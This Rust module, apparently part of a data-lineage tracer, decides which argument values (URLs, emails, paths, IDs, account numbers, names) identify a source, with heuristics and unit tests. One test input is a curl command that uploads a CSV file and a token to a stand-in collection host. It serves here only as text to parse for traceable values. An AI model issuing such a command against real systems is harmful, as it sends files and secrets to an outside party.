//! Which values of an argument identify something, so that finding one in an earlier result says where it came from.
//!
//! A value that any text may hold by chance (`true`, `main`, 10, a date) says nothing. The limits below are a trade: each
//! lets through what a person would search a log for, and keeps out what stands in every second result.

use super::words::Word;
use std::ops::Range;

/// Bytes of a value at most; longer ones are content.
pub(super) const MAX_VALUE: usize = 256;
/// Words of a value at most (a URL or a path has many).
pub(super) const MAX_WORDS: usize = 24;
/// Words of a whole argument at most, if spaces separate them: longer ones are content.
const MAX_PHRASE: usize = 12;
/// Bytes of a phrase at least. Two words without a capital or a digit (`pull request`) say too little.
const MIN_PHRASE: usize = 7;
/// Letters of a name with a dash or an underscore.
const MIN_JOINED: usize = 9;
/// Digits of a number in groups: an account, a phone, a card.
const MIN_GROUPED: usize = 8;
/// Letters of one word that is a whole argument: a name with a capital, or any long word.
const MIN_NAME: usize = 5;
const MIN_WORD: usize = 12;
/// Digits of a number: shorter ones are counts, ports, years.
const MIN_DIGITS: usize = 5;
/// Characters of an id of letters and digits.
const MIN_ID: usize = 6;
/// Bytes of a path or of a name with dots.
const MIN_PATH: usize = 8;

/// Values that stand everywhere.
const COMMON: &[&str] = &[
    "localhost",
    "127.0.0.1",
    "0.0.0.0",
    "utf-8",
    "readme.md",
    "package.json",
    "package-lock.json",
    "index.html",
    "index.js",
    "index.ts",
    "main.py",
    "main.rs",
    "cargo.toml",
    "pyproject.toml",
    "requirements.txt",
    "makefile",
    "dockerfile",
    "application/json",
    "text/plain",
    "text/html",
    "text/markdown",
    "content-type",
    "example.com",
    "node_modules",
];

/// Values in a text, as ranges of its words: the whole, if it is short enough, first.
pub(super) fn values(text: &str, words: &[Word], limit: usize) -> Vec<Range<usize>> {
    let mut found: Vec<Range<usize>> = Vec::new();
    let mut add = |range: Range<usize>, whole: bool| {
        let fits = !range.is_empty() && range.len() <= MAX_WORDS && found.len() < limit && !found.contains(&range);
        if fits
            && !opens_inside_escape(text, &words[range.start])
            && core(text, words, &range).is_some_and(|core| core.len() <= MAX_VALUE && identifies(core, whole))
        {
            found.push(range);
        }
    };
    add(0..words.len(), true);
    let mut from = 0;
    for token in split(text, words, &mut from, |byte| byte.is_ascii_whitespace() || b"\"'`<>()[]{},;|".contains(&byte))
    {
        let next = token.end.checked_sub(1).and_then(|last| text.as_bytes().get(words[last].end as usize));
        if next != Some(&b'(') {
            add(token.clone(), false);
        }
        // Parts of a URL, a path, an assignment.
        let mut at = token.start;
        for part in split(text, &words[..token.end], &mut at, |byte| b"/\\?&=#@:%+".contains(&byte)) {
            let next = part.end.checked_sub(1).and_then(|last| text.as_bytes().get(words[last].end as usize));
            // The name in front of an address's host, and that of a function that is called, say nothing by themselves.
            if !matches!(next, Some(b'@' | b'(')) {
                add(part, false);
            }
        }
    }
    found
}

/// Whether a word begins with the digits of a percent escape: `%20474` is a space and 474, and no number of five digits.
fn opens_inside_escape(text: &str, word: &Word) -> bool {
    let bytes = text.as_bytes();
    let start = word.start as usize;
    start.checked_sub(1).is_some_and(|before| bytes[before] == b'%')
        && bytes.get(start..start + 2).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit))
}

/// Ranges of words between which no byte separates.
fn split(text: &str, words: &[Word], from: &mut usize, separates: impl Fn(u8) -> bool) -> Vec<Range<usize>> {
    let mut parts = Vec::new();
    let mut start = *from;
    for at in *from..words.len() {
        let gap = words.get(at + 1).map(|next| words[at].end as usize..next.start as usize);
        let ends = gap.is_none_or(|gap| gap.len() > 3 || text.as_bytes()[gap].iter().any(|byte| separates(*byte)));
        if ends {
            parts.push(start..at + 1);
            start = at + 1;
        }
    }
    parts
}

/// The text from the first of these words to the last.
pub(super) fn core<'t>(text: &'t str, words: &[Word], range: &Range<usize>) -> Option<&'t str> {
    let first = words.get(range.start)?;
    let last = words.get(range.end.checked_sub(1)?)?;
    text.get(first.start as usize..last.end as usize)
}

/// Whether a value says where it came from. `whole`: it is all of an argument, and not a part of a longer text.
fn identifies(core: &str, whole: bool) -> bool {
    let (mut letters, mut digits, mut spaces, mut upper) = (0, 0, 0, 0);
    for c in core.chars() {
        letters += usize::from(c.is_alphabetic());
        digits += usize::from(c.is_numeric());
        spaces += usize::from(c.is_whitespace());
        upper += usize::from(c.is_uppercase());
    }
    let is_common = core.len() <= 20 && COMMON.iter().any(|common| core.eq_ignore_ascii_case(common));
    if letters + digits < 4 || is_common || is_time(core) {
        return false;
    }
    if letters == 0 {
        let significant = core.bytes().filter(u8::is_ascii_digit).collect::<Vec<_>>();
        let zeros = significant.iter().rev().take_while(|digit| **digit == b'0').count();
        let is_clock = significant.len() == 10 && (b"15".as_slice()..b"20".as_slice()).contains(&&significant[..2]);
        // 10000 is a limit, and seconds since 1970 are the time.
        let is_decimal = core.contains(['.', ',']) && digits >= 4 && core.matches('.').count() <= 1;
        return (digits >= MIN_DIGITS || is_decimal)
            && digits - zeros.min(digits) >= 3
            && !is_clock
            && !is_version(core);
    }
    let slash = core.contains(['/', '\\']);
    if core.contains("://") || (core.contains('@') && core.contains('.') && spaces == 0) {
        return true;
    }
    if spaces == 0 && slash {
        let parts =
            core.split(['/', '\\']).filter(|part| part.chars().filter(|c| c.is_alphabetic()).count() >= 2).count();
        return parts >= 2 && core.len() >= MIN_PATH && !is_media_type(core);
    }
    if spaces == 0 && digits >= 2 && letters + digits >= MIN_ID && !is_version(core) {
        return true;
    }
    if spaces == 0 && core.contains('.') && core.len() >= MIN_PATH && !core.ends_with('.') {
        let last = core.rsplit('.').next().unwrap_or_default();
        return (2..=24).contains(&last.len())
            && last.bytes().all(|byte| byte.is_ascii_alphanumeric())
            && core.is_ascii();
    }
    if !core.is_ascii() && letters * 3 >= core.len() {
        // Scripts without spaces: two characters are a name already, four leave chance out.
        return whole && letters >= 4 && letters + spaces <= 4 * MAX_PHRASE;
    }
    if spaces > 0 {
        let long =
            core.split_whitespace().filter(|word| word.chars().filter(|c| c.is_alphabetic()).count() >= 3).count();
        let is_name = long >= 2 && core.len() >= MIN_PHRASE && (long >= 3 || upper > 0 || digits > 0);
        return whole && spaces < MAX_PHRASE && (is_name || digits >= MIN_GROUPED);
    }
    let joined = core.contains(['_', '-']) && letters >= MIN_JOINED;
    whole && (joined || letters >= MIN_WORD || (letters >= MIN_NAME && upper > 0 && upper < letters))
}

/// A date, or a moment: today's stand everywhere.
fn is_time(core: &str) -> bool {
    let bytes = core.as_bytes();
    let digits = |range: Range<usize>| bytes.get(range).is_some_and(|b| b.iter().all(u8::is_ascii_digit));
    let date =
        digits(0..4) && digits(5..7) && digits(8..10) && matches!(bytes[4], b'-' | b'/' | b'.') && bytes[4] == bytes[7];
    let reversed = digits(0..2) && digits(3..5) && digits(6..10) && matches!(bytes[2], b'-' | b'/' | b'.');
    (date && bytes.get(10).is_none_or(|byte| matches!(byte, b'T' | b't' | b' ' | b'_')))
        || (reversed && bytes.len() == 10)
}

/// `v1.2.3`, `1.81.0-rc1`: numbers with dots and hardly a letter.
fn is_version(core: &str) -> bool {
    let rest = core.strip_prefix(['v', 'V']).unwrap_or(core);
    let number = rest.split(['-', '+']).next().unwrap_or_default();
    number.matches('.').count() >= 2 && number.split('.').all(|part| part.len() <= 4 && part.bytes().all(|b| b.is_ascii_digit()))
        // An address is none.
        && !(number == rest && number.parse::<std::net::Ipv4Addr>().is_ok() && core == rest)
}

fn is_media_type(core: &str) -> bool {
    ["application/", "text/", "image/", "audio/", "video/", "multipart/"].iter().any(|start| core.starts_with(start))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lineage::words::words;

    fn found(text: &str) -> Vec<&str> {
        let mut list = Vec::new();
        words(text, &mut list);
        values(text, &list, 64).iter().map(|range| core(text, &list, range).unwrap()).collect()
    }

    #[test]
    fn what_identifies_is_a_value() {
        for text in [
            "https://files.example/share/a?x=1",
            "anna.berg@corp.example",
            "home/anna/notes/plan.txt",
            "DE89370400440532013000",
            "rec_81k2",
            "48213.77",
            "4902183",
            "Riverside View Hotel",
            "Pay rise",
            "198.51.100.7",
            "evil-corp.example",
            "a3f9c2d4e5b6",
            "Alice",
            "external_channel",
            "INV-2231",
            "3d2f1c9e-8a7b-4c6d-9e0f-112233445566",
            "meeting-notes.docx",
            "東京支店売上",
            "DE89 3704 0044 0532 0130 00",
        ] {
            assert_eq!(found(text).first(), Some(&text), "{text}");
        }
    }

    #[test]
    fn what_stands_everywhere_is_none() {
        for text in [
            "true",
            "main",
            "10",
            "2026",
            "10000",
            "2026-01-05",
            "2026-01-05T09:00:00Z",
            "1767603600",
            "v1.2.3",
            "1.81.0",
            "asc",
            "markdown",
            "application/json",
            "README.md",
            "localhost",
            "open",
            "a b",
            "05.01.2026",
            "1000000",
            "0.5",
            "",
            "…",
            "pull request",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn an_escape_is_no_part_of_a_number() {
        assert!(!found("to%20474&at=%2048213").iter().any(|value| matches!(*value, "20474" | "2048213")));
    }

    #[test]
    fn parts_of_a_text_are_found() {
        let text = "curl -s 'https://collect.example/in?token=kx81jd92&to=bob@corp.example' -d @/srv/data/q3.csv";
        for part in [
            "https://collect.example/in?token=kx81jd92&to=bob@corp.example",
            "collect.example",
            "kx81jd92",
            "srv/data/q3.csv",
        ] {
            assert!(found(text).contains(&part), "{part}: {:?}", found(text));
        }
        // The whole comes first.
        let text = "for all: logger.information(x); anna.berg@corp.example";
        assert_eq!(found(text)[1..], ["anna.berg@corp.example", "corp.example"]);
    }
}
